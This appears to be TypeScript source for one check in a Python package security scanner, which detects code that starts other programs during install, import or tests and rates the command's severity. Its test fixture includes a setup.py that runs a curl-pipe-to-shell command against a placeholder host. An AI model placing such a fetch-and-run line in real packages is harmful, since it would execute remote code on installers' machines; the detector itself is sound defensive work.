import type { CodeEffect } from "../../analysis/code/code-analysis.ts";
import type { Severity } from "../../model/finding.ts";
import { references } from "../references.ts";
import { byTrigger, type CodeCheck, codeCheck, runsUnasked, type SeverityByTrigger } from "./code-check.ts";
import { type CommandKind, commandKind } from "./command-kind.ts";
import { saidArgument } from "./said-argument.ts";
import { isToldOfPickle } from "./unsafe-pickle.ts";

export const runsCommand: CodeCheck = codeCheck({
  id: "code/runs-command",
  title: "Code starts another program",
  severity: "medium",
  confidence: "likely",
  runsAt: "import",
  explanation: `
    A command that code of the distribution hands to the system may do whatever the person may who runs it. One that runs
    while \`pip download\`, \`pip install\` or \`uv lock\` look at an sdist, or whenever Python starts, needs nobody to use the
    project at all. Commands that fetch and run something, install, ask who and where they are, or hide their words are
    rated by what they do; compilers, version control and other tools of builds are info.`,
  remedy:
    "Read the command and where it is called from. If the project cannot do without it, run it in an environment that holds nothing of value, or accept the finding with a reason in assay.toml.",
  references: [references.backEnds, references.subprocess],
  fixtures: {
    reported: {
      filename: "runner-1.0.tar.gz",
      files: {
        "runner-1.0/pyproject.toml":
          '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n',
        "runner-1.0/setup.py":
          'import os\nfrom setuptools import setup\n\nos.system("curl -s https://example.invalid/a | sh")\nsetup(name="runner", version="1.0")\n',
      },
    },
    clean: {
      filename: "runner-1.0.tar.gz",
      files: {
        "runner-1.0/pyproject.toml":
          '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n',
        "runner-1.0/setup.py":
          'import os\nfrom setuptools import setup\n\nEXAMPLE = "curl -s https://example.invalid/a | sh"\nsetup(name="runner", version="1.0")\n',
      },
    },
  },

  rate(effect, code) {
    if (isToldOfPickle(effect, code)) return null;
    if (effect.capability === "process.encoded-powershell") return effect.trigger === "test" ? "low" : "high";
    if (effect.capability === "process.spawn-hidden") return byTrigger(effect.trigger, HIDDEN);
    if (effect.capability === "process.shell-line") return ofShell(effect);
    return effect.capability === "process.spawn" ? severityOf(effect) : null;
  },
  say(effect) {
    if (effect.capability === "process.spawn-hidden")
      return `${effect.callee} runs a command that is made of constants, in a way that hides it.`;
    const words = KINDS[effect.capability === "process.encoded-powershell" ? "encoded" : kindOf(effect)];
    return `${effect.callee} runs ${saidArgument(effect, "a command that is known only when it runs")}${words === "" ? "" : `, which ${words}`}.`;
  },
});

type Kind = CommandKind | "unknown";

function kindOf({ argument, callee, known, names }: CodeEffect): Kind {
  const line = argument ?? names.commands[0] ?? "";
  const kind = OPENS.test(callee) && !PROGRAM.test(line) ? "builds" : commandKind(line);
  // What stands behind so many words of a build is not known.
  if (kind === "builds" && line.length >= MOST_OF_ARGUMENT) return "other";
  if (known !== "nothing" && line !== "" && !STARTS_UNKNOWN.test(line)) return kind;
  // Of a program that is not known, the rest of the line may still say what it is for.
  return kind === "builds" || kind === "other" ? "unknown" : kind;
}

/** Effects hold no more of an argument. */
const MOST_OF_ARGUMENT = 1_000;

/** What is opened so is shown by whichever program is for it, if it is no program itself. */
const OPENS = /\.(?:startfile|ShellExecute\w*)$/;
const PROGRAM = /\.(?:exe|bat|cmd|ps1|vbs|vbe|js|hta|scr|com|msi|lnk|py|pyw|jar)\b|\{…\}|^https?:/i;

/** `{sys.executable}` is a Python, whichever; what lies in `{temp}` was put there. */
const STARTS_UNKNOWN = /^\s*["']?(?:None\b|\{(?!sys\.executable\}|temp\})|\{sys\.executable\}["']?\s+\{(?!temp\}))/;

function severityOf(effect: CodeEffect): Severity {
  const kind = kindOf(effect);
  // Whatever it is, no build has always called it.
  if (kind === "other" && effect.known === "whole" && runsUnasked(effect.trigger)) return "high";
  if (kind === "other" && asks(effect)) return "info";
  if (kind === "other" && effect.known === "whole" && isDirect(effect)) return "medium";
  if (kind === "unknown" && ONLY_OPTIONS.test(effect.argument ?? "")) return "info";
  const severity = byTrigger(effect.trigger, SEVERITIES[kind]);
  return severity === "medium" && isOfDevelopers(effect) ? "info" : severity;
}

/** A program that is named in full, given no more than options, and whose answer is read. */
function asks({ argument, callee, excerpt }: CodeEffect): boolean {
  const line = argument ?? "";
  return QUESTION.test(line) && !RUNS_WORDS.test(line) && (ANSWERS.test(callee) || CAPTURES.test(excerpt));
}

const QUESTION = /^(?:\/(?:usr|opt|bin|sbin)\/[\w./+-]{1,100}|[\w+-]{1,40})(?: --?[A-Za-z][\w-]{0,40}){0,4}$/;
/** Somebody else's choice of a program, `$PKG_CONFIG`, is asked something. */
const ONLY_OPTIONS = /^(?:\{[^{}\s]{1,100}\}|None)(?: --[a-z][\w-]{1,40})(?: [a-z][\w.-]{1,40})?$/;
/** To these, words are code, or further programs. */
const RUNS_WORDS = /^(?:\S*\/)?(?:\w{0,8}sh|env|sudo|doas|exec|nohup|xargs|start|eval|cmd|osascript)\b/;
const ANSWERS = /\.(?:check_output|getoutput|getstatusoutput|popen)$/;
const CAPTURES = /\bstdout\s*=\s*(?:\w+\.)?PIPE\b|\bcapture_output\s*=\s*True\b/;

/** Most of what a shell script calls is not worth a word. */
function ofShell(effect: CodeEffect): Severity | null {
  const kind = kindOf(effect);
  return GRAVE_KINDS.has(kind) ? byTrigger(effect.trigger, SEVERITIES[kind]) : null;
}

const GRAVE_KINDS: ReadonlySet<Kind> = new Set(["encoded", "remote-shell", "fetches", "harms", "persists"]);

/** What a module inside a package does as a script is for those who develop it. */
function isOfDevelopers({ trigger, via }: Pick<CodeEffect, "trigger" | "via">): boolean {
  const at = trigger === "script" ? via.indexOf("run as a script") : -1;
  return at > 0 && /^import \w+\.(?!.*\b__main__$)/.test(via[at - 1] ?? "");
}

/** Run as soon as a script is, or as pytest starts: by its own lines, or those of the function that is entered. */
function isDirect({ trigger, via, path, entry, argument }: CodeEffect): boolean {
  if (trigger !== "script" && trigger !== "test") return false;
  // Fixtures run for the tests that ask for them; what those need is mostly brought up in containers.
  if (trigger === "test" && (entry === null || !/(?:^|\/)conftest\.py$/.test(path) || CONTAINERS.test(argument ?? "")))
    return false;
  const steps = via.filter((step) => !/^(?:import |run |setup\()/.test(step)).length;
  // A command is for everybody; a script, mostly for those who develop.
  return steps <= (trigger === "script" && !via.includes("run as a script") ? 2 : 1);
}

const CONTAINERS = /^(?:docker|podman)(?:-compose)?\s/;

const GRAVE = { unasked: "high", imported: "high", script: "info", deferred: "info", test: "info" } as const;
/** What is the same wherever it runs could be written down. */
const HIDDEN = { unasked: "high", imported: "medium", script: "info", deferred: "info", test: "info" } as const;
const NOTHING = { unasked: "info", imported: "info", script: "info", deferred: "info", test: "info" } as const;
const SEVERITIES: Readonly<Record<Kind, SeverityByTrigger>> = {
  encoded: { ...GRAVE, script: "high", deferred: "high", test: "low" },
  "remote-shell": { ...GRAVE, script: "high", deferred: "high" },
  fetches: { ...GRAVE, script: "medium" },
  harms: { ...GRAVE, script: "medium" },
  persists: { ...GRAVE, script: "medium" },
  installs: GRAVE,
  probes: GRAVE,
  // Many a setup.py has a way of its own to upload what it builds.
  publishes: { ...NOTHING, imported: "high" },
  "starts-program": GRAVE,
  builds: NOTHING,
  other: { ...NOTHING, unasked: "medium", imported: "medium" },
  unknown: { ...NOTHING, unasked: "low" },
};

const KINDS: Readonly<Record<Kind, string>> = {
  encoded: "hides what it does in an encoding",
  "remote-shell": "lets another machine say what runs here",
  fetches: "fetches something",
  harms: "destroys or ends things",
  persists: "makes itself run again later",
  installs: "installs something else",
  probes: "asks who and where it is",
  publishes: "publishes something in your name",
  "starts-program": "starts a program or a script",
  builds: "",
  other: "",
  unknown: "",
};
